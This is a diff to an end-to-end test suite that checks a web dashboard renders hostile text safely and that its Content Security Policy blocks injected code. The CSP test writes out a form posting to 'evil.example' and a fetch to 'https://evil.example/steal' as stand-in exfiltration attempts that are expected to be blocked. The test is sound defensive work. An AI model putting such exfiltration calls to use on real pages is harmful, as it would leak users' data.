@@ -64,11 +64,11 @@ describe.each(EXTREMES)("hostile texts, $theme, $width px", (looks) => {
     await look(at(), "hostile-workspace", below(""), "figure canvas", looks, async (page) => {
       if (looks.width < 900) await page.getByRole("button", { name: "Show the runs list" }).click();
       for (const name of ["markup", "prototype", "turned"]) await shows(page, texts[name] ?? "?");
-    });
-    await look(at(), "hostile-views", below(""), "figure canvas", looks, async (page) => {
+      if (looks.width < 900) return;
       await page.getByRole("button", { name: "Views", exact: true }).click();
       await shows(page, texts.svg ?? "?");
     });
+    if (looks.width < 900) return;
     await look(at(), "hostile-palette", below(""), "figure canvas", looks, async (page) => {
       await page.keyboard.press("Control+k");
       await page.keyboard.type("onerror");
@@ -112,7 +112,7 @@ describe.each(EXTREMES)("hostile texts, $theme, $width px", (looks) => {
   it("on the tabs of a run", async () => {
     const name = looks.width < 900 ? "long" : "markup";
     const text = texts[name] ?? "?";
-    for (const tab of ["charts", "overview", "system", "events"])
+    for (const tab of looks.width < 900 ? ["overview", "events"] : ["overview", "events", "system"])
       await look(at(), `hostile-${name}-${tab}`, `${run(name)}?tab=${tab}`, "h1", looks, async (page) => {
         await page.getByRole("link", { name: "Events" }).waitFor();
         await shows(page, text);
@@ -168,8 +168,9 @@ it("has a policy under which injected code neither runs nor reports", async () =
   });
   await page.goto(server.link(below("")));
   await page.locator("figure").first().waitFor();
-  const blocked = await page.evaluate(async () => {
+  await page.evaluate(async () => {
     const found: string[] = [];
+    Object.assign(window, { blocked: found });
     document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
     const add = (html: string): void => {
       document.body.append(document.createRange().createContextualFragment(html));
@@ -182,11 +183,11 @@ it("has a policy under which injected code neither runs nor reports", async () =
     add("<form action='https://evil.example/' method=post><button>go</button></form>");
     document.querySelector<HTMLFormElement>("form[action*=evil]")?.submit();
     await fetch("https://evil.example/steal").catch(() => undefined);
-    await new Promise((done) => setTimeout(done, 200));
-    return found;
   });
+  const blocked = (): Promise<string[]> =>
+    page.evaluate(() => [...new Set((window as unknown as { blocked: string[] }).blocked)].sort());
   const kinds = ["connect-src", "form-action", "frame-src", "img-src", "object-src", "script-src-elem"];
-  expect(kinds.filter((kind) => !blocked.includes(kind))).toEqual([]);
+  await expect.poll(blocked, SLOWLY).toEqual(kinds);
   expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
   expect(asked).toEqual([]);
   await page.close();
